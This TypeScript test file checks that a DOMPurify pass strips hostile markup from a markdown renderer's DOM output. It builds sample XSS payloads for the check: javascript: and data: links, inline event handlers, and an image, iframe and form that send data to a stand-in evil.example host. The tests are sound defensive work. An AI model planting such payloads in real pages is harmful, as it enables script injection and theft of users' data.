import { describe, expect, it } from 'vitest';
import { purifyInPlace, renderMarkdown } from '../../src/render/markdown-dom';

/**
 * The renderer builds safe DOM by construction; DOMPurify runs over its output
 * as a second layer. These tests hand it DOM the renderer never makes, to show
 * the layer works on its own (real Chromium, real DOMPurify).
 */
describe('DOMPurify second layer (in place, over rendered nodes)', () => {
  it('removes live markup that a renderer bug could produce', () => {
    const box = document.createElement('div');
    const add = (tag: string, attrs: Record<string, string>, text = '') => {
      const el = tag === 'svg' ? document.createElementNS('http://www.w3.org/2000/svg', 'svg') : document.createElement(tag);
      for (const [k, v] of Object.entries(attrs)) el.setAttribute(k, v);
      el.textContent = text;
      box.append(el);
      return el;
    };
    add('a', { href: 'javascript:alert(1)' }, 'js link');
    add('a', { href: 'data:text/html,<script>alert(1)</script>' }, 'data link');
    add('a', { href: 'https://example.org/ok', rel: 'noopener noreferrer nofollow', target: '_blank' }, 'ok link');
    add('img', { src: 'https://evil.example/leak.png?c=secret' });
    add('button', { type: 'button', onclick: 'alert(1)', 'data-cite': '2' }, '[2]');
    add('iframe', { src: 'https://evil.example/' });
    add('form', { action: 'https://evil.example/steal' }, 'form');
    add('svg', { onload: 'alert(1)' });
    add('p', { style: 'background:url(https://evil.example/x)', onmouseover: 'alert(1)' }, 'styled');
    purifyInPlace(box);
    const html = box.innerHTML;
    expect(html).not.toMatch(/javascript:|data:|<img|<iframe|<form|<svg|onclick|onload|onmouseover|style=|evil\.example/);
    expect(box.querySelector('a[href="https://example.org/ok"]')?.getAttribute('rel')).toBe('noopener noreferrer nofollow');
    expect(box.querySelector('a[href="https://example.org/ok"]')?.getAttribute('target')).toBe('_blank');
    expect(box.querySelector('button[data-cite="2"]')?.getAttribute('type')).toBe('button');
  });

  it('leaves the renderer\'s own output unchanged', () => {
    const text = 'See [docs](https://example.org/docs) and ![chart](https://x.example/c.png), per [1].\n\n- **bold** and `code`\n\n> quote';
    const box = document.createElement('div');
    box.append(renderMarkdown(text));
    const before = box.innerHTML;
    purifyInPlace(box);
    expect(box.innerHTML).toBe(before);
    expect(before).toContain('<a href="https://example.org/docs" rel="noopener noreferrer nofollow" target="_blank">docs</a>');
  });
});
